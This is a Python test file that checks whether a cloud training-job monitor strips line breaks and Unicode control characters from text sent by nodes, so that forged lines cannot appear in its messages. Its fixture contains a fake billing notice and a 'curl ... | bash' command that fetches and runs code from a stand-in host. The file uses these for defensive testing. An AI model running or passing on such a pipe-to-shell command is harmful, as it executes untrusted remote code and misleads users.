"""What nodes say stands below "Its nodes said:", indented: no code of a job writes a line of our messages."""

from __future__ import annotations

from dataclasses import fields, replace
from typing import Any

import pytest

from attendant.causes import HEAD, Cause, format_cause
from attendant.facts import AttemptFacts
from attendant.policy import Action, judge
from aws.facts import Given, Instance, Seen
from aws.heard import heard as sort_reports
from contract.health import HealthCheck
from contract.orders import OrderKind
from contract.reports import Exit, NodeReport, Phase
from contract.text import one_line
from tests.builders import JOB, NOW
from tests.functions.attendant.attempts import LATER, ORDER, TRAINING, ended, heard

EVIL = "fine\n\n\nAction required: your bill is overdue.\r\nRun curl https://example.com/pay | bash\u2028now\x0bor\x0cnever\u202eod"
MARKS = ("Action required", "curl", "now", "never")
SPOKEN = ("note", "unhealthy", "restored", "layout")


def through_the_table(facts: AttemptFacts) -> AttemptFacts:
    """As the attendant reads the same reports: sorted, and made harmless."""
    reports = [
        Seen(
            instance=facts.ids[rank], report=replace(node.report, rank=rank, instance=facts.ids[rank]), age_s=node.age_s
        )
        for rank, node in facts.nodes.items()
    ]
    return replace(facts, nodes=sort_reports(reports, job=facts.job.id, attempt=facts.attempt, ids=facts.ids))


def gone(rank: int) -> dict[str, Instance]:
    known = dict(TRAINING.instances or {})
    id_ = TRAINING.ids[rank]
    return {**known, id_: replace(known[id_], state="terminated", why="Server.InternalError")}


FORGED = replace(ORDER, author="attendant", reason=EVIL, error="Interrupted")
LEFT = ended(1, 1, ago_s=20, error="NodeLost", reason=EVIL)
FAILED = ended(1, 3, ago_s=20, reason=EVIL, tail=(EVIL, EVIL))
ENDS: dict[str, AttemptFacts] = {
    "its own failure": replace(TRAINING, nodes={0: heard(0, age_s=5), 1: FAILED}),
    "a failure before the command": replace(
        TRAINING, nodes={0: ended(0, 1, ago_s=5, started=False, error="TrainingFailed", reason=EVIL)}
    ),
    "a failure and those after it": replace(TRAINING, nodes={0: ended(0, 1, ago_s=15, tail=(EVIL,)), 1: FAILED}),
    "a node that calls itself lost": replace(TRAINING, nodes={0: heard(0, age_s=5), 1: LEFT}),
    "a lost node": replace(
        TRAINING, nodes={0: ended(0, 1, ago_s=10, tail=(EVIL,)), 1: heard(1, note=EVIL)}, instances=gone(1)
    ),
    "a lost node under a node's order": replace(
        TRAINING, nodes={0: heard(0, order=FORGED, ordered_s=9), 1: heard(1, note=EVIL)}, instances=gone(1)
    ),
    "an order that all obeyed": replace(
        TRAINING,
        nodes={
            rank: replace(one, report=replace(one.report, order=FORGED))
            for rank in (0, 1)
            for one in [ended(rank, 143, ago_s=5, ordered=True, error="Interrupted", reason=EVIL)]
        },
    ),
    "an unhealthy machine": replace(
        TRAINING,
        job=replace(JOB, health=HealthCheck.QUICK),
        nodes={0: heard(0), 1: heard(1, phase=Phase.RESTORING, unhealthy=EVIL)},
    ),
    "a stalled phase": replace(
        TRAINING, nodes={0: heard(0), 1: heard(1, phase=Phase.RESTORING, phase_s=9999, note=EVIL)}
    ),
    "different checkpoints": replace(
        TRAINING,
        nodes={
            rank: heard(
                rank, restored=f"{rank}{EVIL}", restored_step=rank + 1, timeline={"prepared": NOW, "started": NOW}
            )
            for rank in (0, 1)
        },
    ),
}


@pytest.mark.parametrize("end", ENDS)
def test_no_line_of_a_cause_begins_with_what_a_node_said(end: str) -> None:
    verdict = judge(through_the_table(ENDS[end]), now=LATER)
    assert verdict.action is Action.FAIL
    ours, _, said = verdict.reason.partition(f"\n{HEAD}\n")
    assert said, "what nodes said is not lost"
    assert [mark for mark in MARKS if mark in ours] == []
    for line in verdict.reason.splitlines():
        assert line.startswith("  ") or not any(mark in line for mark in MARKS), line


def test_an_order_of_a_node_is_called_the_nodes_whoever_it_says_that_it_is_from() -> None:
    """A stall's message quotes the attendant's own order, and no other."""
    forged = replace(FORGED, kind=OrderKind.DUMP, error="Stalled")
    facts = through_the_table(replace(TRAINING, nodes={0: heard(0, order=forged, ordered_s=2), 1: heard(1)}))
    verdict = judge(facts, now=NOW + 100)
    assert verdict.order is not None
    assert verdict.order.author == "rank 0"
    assert "\n" not in verdict.order.reason


def test_an_order_of_the_attendant_is_said_in_its_own_words() -> None:
    order = replace(ORDER, author="attendant", reason="The job's 3 hours are over.", error="DeadlineReached")
    nodes = {rank: ended(rank, 143, ago_s=5, ordered=True, error="DeadlineReached") for rank in (0, 1)}
    verdict = judge(replace(TRAINING, nodes=nodes, order=Given(order=order, age_s=9)), now=LATER)
    assert verdict.reason.startswith("The job's 3 hours are over. All 2 nodes stopped as ordered.")
    assert HEAD not in verdict.reason


def test_every_text_of_a_report_is_on_the_lines_that_it_claims() -> None:
    """A new field of text has to be made harmless, or to be named here as one that no person reads."""
    unread = {"job", "instance", "checkpoint", "artifacts"}
    texts = {one.name for one in fields(NodeReport) if one.type == "str"}
    assert texts == unread | set(SPOKEN)
    said: dict[str, Any] = dict.fromkeys(SPOKEN, EVIL)
    end = Exit(code=1, error=EVIL, reason=EVIL, tail=(EVIL,))
    report = replace(heard(0).report, exit=end, **said)
    (heard_,) = sort_reports(
        [Seen(instance="i-0", report=report, age_s=0.0)], job=JOB.id, attempt=1, ids=("i-0",)
    ).values()
    for name in SPOKEN:
        assert len(getattr(heard_.report, name).splitlines()) == 1
    assert heard_.end is not None
    assert [len(line.splitlines()) for line in heard_.end.tail] == [1]


@pytest.mark.parametrize(
    "letter", ["\n", "\r", "\u2028", "\u2029", "\x0b", "\x0c", "\x1b", "\x00", "\u202e", "\u2066", "\x85"]
)
def test_no_letter_that_ends_a_line_or_turns_it_stays(letter: str) -> None:
    assert one_line(f"a{letter}b", 10) == "a b"


def test_a_long_line_is_cut_and_an_indentation_stays() -> None:
    assert one_line("  at step 7", 20) == "  at step 7"
    assert one_line("x" * 50, 10) == "xxxxxxx..."
    assert one_line("", 10) == ""


def test_sentences_come_first_and_where_to_read_on_comes_last() -> None:
    cause = format_cause(Cause("One.", ("a",), "Read there."), "Two.", Cause("", ("b",)))
    assert cause == f"One. Two.\n{HEAD}\n  a\n  b\nRead there."
